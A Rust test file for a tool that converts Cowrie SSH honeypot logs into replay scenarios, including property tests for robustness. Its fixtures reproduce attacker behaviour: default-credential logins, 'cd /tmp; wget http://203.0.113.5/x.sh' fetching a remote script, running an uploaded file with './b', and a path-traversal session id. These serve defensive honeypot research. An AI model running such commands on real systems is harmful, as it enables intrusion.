use std::path::Path;

use proptest::prelude::*;
use serde_json::json;

use super::*;

/// A Cowrie 2.x line (timestamps end in `Z`, `duration` in seconds).
fn line(session: &str, eventid: &str, at: &str, extra: Value) -> String {
    let mut object = json!({
        "eventid": eventid,
        "timestamp": at,
        "session": session,
        "src_ip": "198.51.100.23",
        "sensor": "hp-ams-1",
        "message": "",
    });
    if let (Value::Object(o), Value::Object(e)) = (&mut object, extra) {
        o.extend(e);
    }
    object.to_string()
}

fn interactive_log() -> String {
    let s = "a1b2c3d4e5f6";
    [
        line(s, "cowrie.session.connect", "2021-03-01T12:00:00.000000Z", json!({"src_port": 51234, "dst_ip": "10.0.0.5", "dst_port": 22, "protocol": "ssh"})),
        line(s, "cowrie.client.version", "2021-03-01T12:00:00.100000Z", json!({"version": "b'SSH-2.0-libssh2_1.4.3'"})),
        line(s, "cowrie.login.failed", "2021-03-01T12:00:01.000000Z", json!({"username": "root", "password": "admin"})),
        line(s, "cowrie.login.failed", "2021-03-01T12:00:02.000000Z", json!({"username": "admin", "password": "admin"})),
        line(s, "cowrie.login.success", "2021-03-01T12:00:03.000000Z", json!({"username": "root", "password": "123456"})),
        line(s, "cowrie.client.size", "2021-03-01T12:00:03.100000Z", json!({"width": 132, "height": 40})),
        line(s, "cowrie.command.input", "2021-03-01T12:00:05.250000Z", json!({"input": "uname -a"})),
        line(s, "cowrie.command.input", "2021-03-01T12:00:07.750000Z", json!({"input": "cd /tmp; wget http://203.0.113.5/x.sh"})),
        line(s, "cowrie.session.file_download", "2021-03-01T12:00:08.000000Z", json!({"url": "http://203.0.113.5/x.sh", "outfile": "var/lib/cowrie/downloads/ab", "shasum": "ab", "destfile": "x.sh"})),
        line(s, "cowrie.command.input", "2021-03-01T12:00:09.000000Z", json!({"input": "zzfrobnicate -v"})),
        line(s, "cowrie.command.failed", "2021-03-01T12:00:09.000000Z", json!({"input": "zzfrobnicate -v"})),
        line(s, "cowrie.command.failed", "2021-03-01T12:00:09.100000Z", json!({"input": "ulimit -n 9999"})),
        line(s, "cowrie.session.closed", "2021-03-01T12:00:20.000000Z", json!({"duration": 20.0})),
    ]
    .join("\n")
}

fn only(text: &str) -> Scenario {
    let log = CowrieLog::parse(text);
    assert!(log.errors.is_empty(), "{:?}", log.errors);
    assert_eq!(log.sessions.len(), 1);
    convert(&log.sessions[0], "test").unwrap().scenario
}

#[test]
fn an_interactive_session_becomes_a_pty_scenario() {
    let s = only(&interactive_log());
    assert_eq!(s.name, "cowrie-a1b2c3d4e5f6");
    assert_eq!(s.start.to_rfc3339(), "2021-03-01T12:00:00+00:00");
    assert_eq!(s.attacker.ip.to_string(), "198.51.100.23");
    assert_eq!(s.attacker.port, 51234);
    assert_eq!(s.attacker.client, "SSH-2.0-libssh2_1.4.3");
    let creds: Vec<(&str, &str)> = s
        .attacker
        .credentials
        .iter()
        .map(|c| (c.username.as_str(), c.password.as_str()))
        .collect();
    assert_eq!(
        creds,
        [("root", "admin"), ("admin", "admin"), ("root", "123456")]
    );
    assert!(s.attacker.pty);
    assert_eq!(s.attacker.columns, 132);
    let steps: Vec<(f64, &str)> = s
        .steps
        .iter()
        .map(|st| (st.value.delay, st.value.input.as_deref().unwrap()))
        .collect();
    assert_eq!(
        steps,
        [
            (5.25, "uname -a"),
            (2.5, "cd /tmp; wget http://203.0.113.5/x.sh"),
            (1.25, "zzfrobnicate -v"),
        ]
    );
    assert_eq!(s.expect.logged_in, Some(true));
    assert_eq!(s.expect.session_open, Some(true), "no exit typed");
    let expected: Vec<(&str, &str, &str)> = s
        .expect
        .events
        .iter()
        .map(|e| {
            let (k, v) = e.fields.iter().next().unwrap();
            (e.eventid.as_str(), k.as_str(), v.as_str())
        })
        .collect();
    // `ulimit` is a bash builtin: Cowrie failing it says nothing about bash.
    assert_eq!(
        expected,
        [
            (
                "cowrie.session.file_download",
                "url",
                "http://203.0.113.5/x.sh"
            ),
            ("cowrie.command.failed", "input", "zzfrobnicate -v"),
        ]
    );
}

#[test]
fn the_written_yaml_loads_back_as_the_same_scenario() {
    let s = only(&interactive_log());
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("x.yaml");
    std::fs::write(&file, s.to_yaml()).unwrap();
    let back = Scenario::load(&file).unwrap();
    assert_eq!(back.to_yaml(), s.to_yaml());
    assert_eq!(back.steps.len(), 3);
    assert_eq!(back.attacker, s.attacker);
    assert_eq!(back.expect, s.expect);
    assert_eq!(back.start, s.start);
}

#[test]
fn bad_lines_are_reported_with_their_number_and_skipped() {
    let good = interactive_log();
    let mut lines: Vec<String> = good.lines().map(str::to_owned).collect();
    lines.insert(2, "{not json".into());
    lines.insert(4, r#"{"eventid":"cowrie.login.failed","session":"a1b2c3d4e5f6","timestamp":"2021-03-01T12:00:01Z","username":"x"}"#.into());
    lines.insert(5, r#"["an", "array"]"#.into());
    lines.insert(6, r#"{"eventid":"cowrie.command.input","session":"a1b2c3d4e5f6","timestamp":"yesterday","input":"id"}"#.into());
    lines.insert(7, String::new());
    let log = CowrieLog::parse(&lines.join("\n"));
    let errors: Vec<String> = log.errors.iter().map(ToString::to_string).collect();
    assert_eq!(errors.len(), 4, "{errors:?}");
    assert!(
        errors[0].starts_with("line 3: not a JSON object"),
        "{errors:?}"
    );
    assert_eq!(errors[1], "line 5: cowrie.login.failed: no `password`");
    assert_eq!(errors[2], "line 6: not a JSON object");
    assert!(errors[3].starts_with("line 7: `timestamp`"), "{errors:?}");
    // The good lines still make the same scenario.
    let s = convert(&log.sessions[0], "test").unwrap().scenario;
    assert_eq!(s.steps.len(), 3);
    assert_eq!(s.attacker.credentials.len(), 3);
}

#[test]
fn an_overlong_line_is_skipped_and_reading_goes_on() {
    let long = format!("{{\"x\":\"{}\"}}", "a".repeat(MAX_LINE_BYTES + 10));
    let text = format!("{long}\n{}\n", interactive_log());
    let log = CowrieLog::read(std::io::Cursor::new(text)).unwrap();
    assert_eq!(log.errors.len(), 1);
    assert_eq!(log.errors[0].line, 1);
    assert!(log.errors[0].message.contains("longer than"));
    assert_eq!(log.sessions[0].events.len(), 13);
    assert_eq!(log.sessions[0].events[0].line, 2);
}

#[test]
fn exec_sessions_forwards_and_cowrie_3_fields() {
    // Cowrie 3.x: `duration_ms`; an exec request (no terminal size); a direct-tcpip request
    // whose `src_ip` is the originator the client claimed.
    let s = "0f0e0d0c0b0a";
    let text = [
        line(s, "cowrie.session.connect", "2024-06-01T08:00:00.000000Z", json!({"src_port": 40001, "dst_ip": "10.0.0.5", "dst_port": 22, "protocol": "ssh"})),
        line(s, "cowrie.client.version", "2024-06-01T08:00:00.200000Z", json!({"version": "SSH-2.0-Go"})),
        line(s, "cowrie.login.success", "2024-06-01T08:00:00.500000Z", json!({"username": "pi", "password": "raspberry"})),
        r#"{"eventid":"cowrie.direct-tcpip.request","timestamp":"2024-06-01T08:00:00.600000Z","session":"0f0e0d0c0b0a","src_ip":"127.0.0.1","src_port":0,"dst_ip":"example.com","dst_port":443,"sensor":"hp"}"#.to_owned(),
        line(s, "cowrie.command.input", "2024-06-01T08:00:01.000000Z", json!({"input": "uname -s -v -n -r -m"})),
        line(s, "cowrie.session.closed", "2024-06-01T08:00:02.000000Z", json!({"duration_ms": 2000})),
    ]
    .join("\n");
    let log = CowrieLog::parse(&text);
    assert!(log.errors.is_empty(), "{:?}", log.errors);
    let c = convert(&log.sessions[0], "test").unwrap();
    let sc = c.scenario;
    assert_eq!(
        sc.attacker.ip.to_string(),
        "198.51.100.23",
        "not the forward's src_ip"
    );
    assert!(!sc.attacker.pty, "no terminal size: exec");
    assert_eq!(sc.attacker.credentials.len(), 1);
    assert_eq!(sc.steps[0].value.delay, 1.0);
    assert_eq!(sc.expect.session_open, None);
    assert_eq!(
        c.notes,
        ["direct-tcpip forward to example.com:443 not replayed"]
    );
    assert!(
        sc.description
            .contains("direct-tcpip forward to example.com:443")
    );
}

#[test]
fn exit_uploads_and_sessions_without_login() {
    let s = "cafe00000001";
    let text = [
        r#"{"eventid":"cowrie.session.connect","timestamp":"2021-03-01T12:00:00.000000","session":"cafe00000001","src_ip":"::ffff:192.0.2.9","src_port":1,"dst_ip":"10.0.0.5","dst_port":22}"#.to_owned(),
        line(s, "cowrie.login.success", "2021-03-01T12:00:01.000000Z", json!({"username": "root", "password": ""})),
        line(s, "cowrie.client.size", "2021-03-01T12:00:01.000000Z", json!({"width": 80, "height": 24})),
        line(s, "cowrie.session.file_upload", "2021-03-01T12:00:02.000000Z", json!({"filename": "b", "outfile": "var/lib/cowrie/downloads/cd", "shasum": "cd"})),
        line(s, "cowrie.command.input", "2021-03-01T12:00:03.000000Z", json!({"input": "./b; exit"})),
        line(s, "cowrie.command.failed", "2021-03-01T12:00:03.000000Z", json!({"input": "zzfrobnicate"})),
        line("scanner00001", "cowrie.session.connect", "2021-03-01T12:00:04.000000Z", json!({"src_port": 2, "dst_ip": "10.0.0.5", "dst_port": 22})),
        line("scanner00001", "cowrie.session.closed", "2021-03-01T12:00:05.000000Z", json!({"duration": 1.0})),
    ]
    .join("\n");
    let log = CowrieLog::parse(&text);
    assert!(log.errors.is_empty(), "{:?}", log.errors);
    let (done, skipped) = convert_all(&log, "test");
    assert_eq!(skipped, [Skipped::NoLogin("scanner00001".into())]);
    let sc = &done[0].scenario;
    assert_eq!(
        sc.attacker.ip.to_string(),
        "192.0.2.9",
        "IPv4-mapped read as IPv4"
    );
    assert_eq!(sc.expect.session_open, Some(false), "exit typed");
    assert!(sc.steps.iter().all(|st| st.value.upload.is_none()));
    assert!(
        sc.description
            .contains("upload of b (sha256 cd) not replayed"),
        "{}",
        sc.description
    );
    assert!(
        sc.expect.events.is_empty(),
        "after an upload a failed name may be the file"
    );
}

#[test]
fn session_ids_become_safe_unique_names() {
    let login = |id: &str| {
        line(
            id,
            "cowrie.login.success",
            "2021-03-01T12:00:00Z",
            json!({"username": "a", "password": "b"}),
        )
    };
    let text = [login("../../etc/x"), login("a/b"), login("a.b")].join("\n");
    let (done, _) = convert_all(&CowrieLog::parse(&text), "t");
    let names: Vec<&str> = done.iter().map(|c| c.scenario.name.as_str()).collect();
    assert_eq!(names, ["cowrie-______etc_x", "cowrie-a_b", "cowrie-a_b-2"]);
}

#[test]
fn import_file_writes_loadable_files() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("cowrie.json");
    std::fs::write(&log, format!("{}\ngarbage\n", interactive_log())).unwrap();
    let report = import_file(&log, &dir.path().join("out")).unwrap();
    assert_eq!(report.written.len(), 1);
    assert_eq!(report.errors.len(), 1);
    assert_eq!(report.errors[0].line, 14);
    let s = Scenario::load(&report.written[0]).unwrap();
    assert_eq!(s.source, "cowrie json log cowrie.json");
    assert!(import_file(Path::new("/nonexistent/x.json"), dir.path()).is_err());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn arbitrary_lines_never_panic(lines in proptest::collection::vec(".{0,200}", 0..20)) {
        let log = CowrieLog::parse(&lines.join("\n"));
        let _ = convert_all(&log, "p");
    }

    #[test]
    fn arbitrary_event_objects_never_panic(
        ids in proptest::collection::vec(prop_oneof![
            Just("cowrie.login.success"), Just("cowrie.login.failed"),
            Just("cowrie.command.input"), Just("cowrie.client.size"),
            Just("cowrie.session.connect"), Just("cowrie.direct-tcpip.request"),
            Just("cowrie.command.failed"), Just("cowrie.session.file_download"),
        ], 1..12),
        text in ".{0,40}",
        number in any::<i64>(),
        secs in 0i64..4_000_000_000,
    ) {
        let mut log = CowrieLog::default();
        for (i, id) in ids.iter().enumerate() {
            let at = DateTime::from_timestamp(secs + i as i64, 0).unwrap().to_rfc3339();
            log.add_value(i as u64, json!({
                "eventid": id, "session": "s", "timestamp": at, "src_ip": text,
                "src_port": number, "username": text, "password": text, "input": text,
                "width": number, "url": text, "dst_port": number,
            }));
        }
        let _ = convert_all(&log, "p");
    }

    #[test]
    fn any_typed_text_survives_the_yaml_round_trip(
        inputs in proptest::collection::vec("\\PC{1,60}", 1..5),
        password in ".{0,30}",
    ) {
        let mut log = CowrieLog::default();
        log.add_value(1, json!({"eventid": "cowrie.login.success", "session": "s",
            "timestamp": "2021-01-01T00:00:00Z", "username": "root", "password": password}));
        for (i, input) in inputs.iter().enumerate() {
            log.add_value(2 + i as u64, json!({"eventid": "cowrie.command.input", "session": "s",
                "timestamp": "2021-01-01T00:00:01.5Z", "input": input}));
        }
        let s = convert(&log.sessions[0], "p").unwrap().scenario;
        let back = Scenario::parse(Path::new("p.yaml"), &s.to_yaml()).unwrap();
        prop_assert_eq!(&back.attacker.credentials, &s.attacker.credentials);
        let typed: Vec<_> = back.steps.iter().map(|st| st.value.input.clone().unwrap()).collect();
        prop_assert_eq!(typed, inputs);
    }
}
